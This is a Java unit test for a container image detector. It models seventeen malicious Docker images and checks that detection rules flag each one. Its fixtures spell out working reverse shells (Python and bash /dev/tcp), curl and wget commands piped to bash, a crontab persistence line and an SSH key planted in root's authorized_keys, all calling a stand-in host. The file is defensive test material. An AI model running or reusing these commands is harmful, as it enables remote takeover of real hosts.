package io.firedamp.detectors.image;

import static io.firedamp.detectors.image.Images.DIGEST;
import static io.firedamp.detectors.image.Images.MINER;
import static io.firedamp.detectors.image.Images.MORNING;
import static io.firedamp.detectors.image.Images.OWN_BUILD;
import static io.firedamp.detectors.image.Images.metadata;
import static io.firedamp.detectors.image.Images.pull;
import static io.firedamp.detectors.image.Images.running;
import static org.assertj.core.api.Assertions.assertThat;

import io.firedamp.detectors.DetectorHarness;
import io.firedamp.detectors.evidence.Posterior;
import io.firedamp.schemas.avro.ImageMetadata;
import io.firedamp.schemas.avro.Severity;
import io.firedamp.schemas.avro.Signal;
import java.util.ArrayList;
import java.util.List;
import java.util.Set;
import java.util.TreeSet;
import java.util.stream.Stream;
import org.apache.avro.specific.SpecificRecord;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

/**
 * The seventeen images of the one publisher, as far as reports tell, and what each would have shown
 * under a name that no list knew. Of the names only four stand in public reports; the others are
 * reported, unverified. Nine held the miner, eight a way in: which did which is assumed.
 */
class SeedImagesTest {
  private static final Held MINER_INSIDE = new Held("IMG-07", MINER, List.of());
  private static final Held PYTHON_SHELL =
      new Held(
          "IMG-09",
          List.of(
              "python",
              "-c",
              "import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);"
                  + "s.connect((\"198.51.100.13\",8220));os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);"
                  + "p=subprocess.call([\"/bin/sh\",\"-i\"]);"),
          List.of());
  private static final Held BASH_SHELL =
      new Held(
          "IMG-09",
          List.of("/bin/bash", "-c", "bash -i >& /dev/tcp/198.51.100.13/8220 0>&1"),
          List.of());
  private static final Held SSH_KEY =
      new Held(
          "IMG-09",
          List.of("/usr/sbin/sshd", "-D"),
          List.of(
              "/bin/sh -c mkdir -p /root/.ssh && echo 'ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQC7'"
                  + " >> /root/.ssh/authorized_keys"));
  private static final Held PICTURE =
      new Held(
          "IMG-09",
          List.of("sh", "-c", "curl -s http://198.51.100.13:8220/logo3.jpg | bash -s"),
          List.of());
  private static final Held CRON_PICTURE =
      new Held(
          "IMG-09",
          List.of(
              "sh",
              "-c",
              "echo '* * * * * root curl -s http://198.51.100.13:8220/logo3.jpg | bash -s' >>"
                  + " /mnt/etc/crontab"),
          List.of());
  private static final Held SCRIPT =
      new Held(
          "IMG-09",
          List.of("sh", "-c", "wget -qO- http://198.51.100.13:8220/a.sh | bash"),
          List.of());

  /** What an image held, and the rule that knows it. */
  private record Held(String rule, List<String> command, List<String> built) {
    /** As the container runs it. */
    @Override
    public String toString() {
      return rule + " " + command.get(0);
    }
  }

  /** What was published, and whether its name alone tells. */
  private record Seed(String name, boolean inReports, boolean byName, Held held) {
    @Override
    public String toString() {
      return name + (inReports ? "" : " (reported, unverified)");
    }
  }

  private static Stream<Seed> seeds() {
    return Stream.of(
        new Seed("tomcat", true, true, MINER_INSIDE),
        new Seed("tomcat11", true, true, PYTHON_SHELL),
        new Seed("tomcat22", false, true, BASH_SHELL),
        new Seed("mysql", true, true, CRON_PICTURE),
        new Seed("mysql0", false, true, MINER_INSIDE),
        new Seed("mysql2", false, true, MINER_INSIDE),
        new Seed("mysql3", false, true, MINER_INSIDE),
        new Seed("mysql4", false, true, MINER_INSIDE),
        new Seed("mysql5", false, true, MINER_INSIDE),
        new Seed("mysql6", false, true, PICTURE),
        new Seed("cron", true, false, MINER_INSIDE),
        new Seed("cronm", false, false, MINER_INSIDE),
        new Seed("cronnn", false, false, MINER_INSIDE),
        new Seed("t1", false, false, SSH_KEY),
        new Seed("t2", false, false, BASH_SHELL),
        new Seed("kk", false, false, SCRIPT),
        new Seed("data", false, false, PYTHON_SHELL));
  }

  @Test
  void areSeventeenOfWhichTenAreKnownByNameAndNineHeldTheMiner() {
    assertThat(seeds()).hasSize(17);
    assertThat(seeds()).filteredOn(seed -> seed.inReports).hasSize(4);
    assertThat(seeds()).filteredOn(seed -> seed.byName).hasSize(10);
    assertThat(seeds()).filteredOn(seed -> seed.held.equals(MINER_INSIDE)).hasSize(9);
  }

  @ParameterizedTest
  @MethodSource("seeds")
  void isListedUnderItsOwnPublisher(Seed seed) {
    String image = "docker.io/docker123321/" + seed.name + ":latest";

    assertThat(play(running("c1", image, MORNING)))
        .anySatisfy(
            signal -> {
              assertThat(signal.getRule()).isEqualTo("IMG-01");
              assertThat(signal.getWeight()).isEqualTo(50);
            });
  }

  @ParameterizedTest
  @MethodSource("seeds")
  void wouldHaveShownItselfUnderAPublisherThatNoListKnows(Seed seed) {
    List<Signal> signals = lives(seed);
    Set<String> rules = new TreeSet<>();
    signals.forEach(signal -> rules.add(signal.getRule()));

    assertThat(rules.contains("IMG-02")).isEqualTo(seed.byName);
    assertThat(rules.contains("IMG-08")).as("a name without the thing").isEqualTo(seed.byName);
    assertThat(rules).contains("IMG-05", seed.held.rule).doesNotContain("IMG-01");
  }

  @ParameterizedTest
  @MethodSource("seeds")
  void isHighWithAMinerInsideAndMediumAtMostWhileItLiesInWait(Seed seed) {
    double strongest = lives(seed).stream().mapToDouble(Signal::getDecibans).max().orElseThrow();

    Severity alone = Posterior.DEFAULT.severity(strongest, strongest);

    if (seed.held.equals(MINER_INSIDE)) {
      assertThat(alone).isGreaterThanOrEqualTo(Severity.HIGH);
    } else {
      assertThat(alone).isLessThanOrEqualTo(Severity.MEDIUM);
    }
  }

  @ParameterizedTest
  @MethodSource("seeds")
  void isSaidAtThePullWhileItLiesInWait(Seed seed) {
    String image = "docker.io/someone/" + seed.name + ":latest";

    List<Signal> signals = play(pull(image, DIGEST, MORNING), image(seed, image));

    assertThat(signals.stream().anyMatch(signal -> signal.getRule().equals("IMG-09")))
        .isEqualTo(!seed.held.equals(MINER_INSIDE));
  }

  private static List<Signal> lives(Seed seed) {
    String image = "docker.io/someone/" + seed.name + ":latest";
    return play(image(seed, image), running("c1", image, DIGEST, MORNING));
  }

  private static ImageMetadata image(Seed seed, String reference) {
    List<String> history = new ArrayList<>(OWN_BUILD);
    history.addAll(seed.held.built);
    return ImageMetadata.newBuilder(metadata(DIGEST, seed.held.command, MORNING))
        .setReferences(List.of(reference))
        .setHistory(history)
        .build();
  }

  private static List<Signal> play(SpecificRecord... events) {
    try (DetectorHarness harness =
        new DetectorHarness(new ImageDetector(ImageDetector.Settings.DEFAULTS))) {
      return harness.publish(events).signals();
    }
  }
}
